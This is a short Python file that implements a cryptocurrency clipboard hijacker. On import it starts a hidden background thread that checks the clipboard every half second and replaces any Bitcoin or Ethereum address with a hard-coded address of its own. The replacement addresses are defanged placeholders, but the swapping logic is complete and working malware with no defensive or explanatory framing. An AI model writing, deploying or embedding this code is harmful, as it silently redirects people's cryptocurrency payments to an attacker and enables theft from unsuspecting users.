import re
import threading
import time

import pyperclip

BTC = re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$")
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
MINE = {"btc": "bc1qdefangedxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "eth": "0x0000000000000000000000000000000000000000"}


def _watch():
    while True:
        text = pyperclip.paste().strip()
        if BTC.match(text):
            pyperclip.copy(MINE["btc"])
        elif ETH.match(text):
            pyperclip.copy(MINE["eth"])
        time.sleep(0.5)


threading.Thread(target=_watch, daemon=True).start()
